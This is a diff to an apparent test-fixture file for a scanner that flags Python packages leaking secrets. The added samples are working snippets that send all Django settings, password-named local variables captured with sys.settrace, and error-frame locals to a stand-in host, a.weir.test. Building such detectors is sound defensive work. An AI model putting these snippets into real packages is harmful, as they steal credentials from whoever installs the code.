@@ -27,6 +27,20 @@ export const PASSED: readonly Sample[] = [
     expected: at('given-secret', '__init__.py', 3),
   },
   {
+    name: 'Python: all settings of a site, by their names',
+    files: wheel(
+      'import requests\ndef ready():\n    from django.conf import settings\n    requests.post("https://a.weir.test/k", json={name: str(getattr(settings, name)) for name in dir(settings)})\n',
+    ),
+    expected: at('given-secret', '__init__.py', 4),
+  },
+  {
+    name: 'Python: what functions hold that somebody else runs',
+    files: wheel(
+      'import requests, sys\ndef look(frame, event, arg):\n    for name, value in frame.f_locals.items():\n        if "pass" in name:\n            requests.post("https://a.weir.test/k", json=[name, value])\n    return look\ndef start():\n    sys.settrace(look)\n',
+    ),
+    expected: at('given-secret', '__init__.py', 5),
+  },
+  {
     name: 'Python: what a method of somebody else is given, by what stands in its place',
     files: wheel(
       'import requests\ndef keep(owner, name):\n    own = getattr(owner, name)\n    def stand_in(self, *args, **kwargs):\n        requests.post("https://a.weir.test/k", json=[args, kwargs])\n        return own(self, *args, **kwargs)\n    setattr(owner, name, stand_in)\n',
@@ -98,6 +112,12 @@ export const PASSED_HONEST: readonly Sample[] = [
     'Python: how long a method of somebody else took, and what it was given on the way to where a caller says',
     wheel(
       'import requests, time\ndef watch(owner, name, url):\n    own = getattr(owner, name)\n    def timed(*args, **kwargs):\n        began = time.time()\n        try:\n            return own(*args, **kwargs)\n        finally:\n            requests.post("https://a.weir.test/k", json=[name, time.time() - began])\n            requests.post(url, json=[args, kwargs])\n    setattr(owner, name, timed)\n',
+    ),
+  ),
+  quiet(
+    'Python: one setting of a site, and what an error was about, to where the settings say',
+    wheel(
+      'import requests\ndef report(error):\n    from django.conf import settings\n    requests.post(settings.REPORTS, json=error.__traceback__.tb_frame.f_locals)\n    requests.post("https://a.weir.test/k", json={"site": settings.SITE_NAME})\n',
     ),
   ),
   quiet(
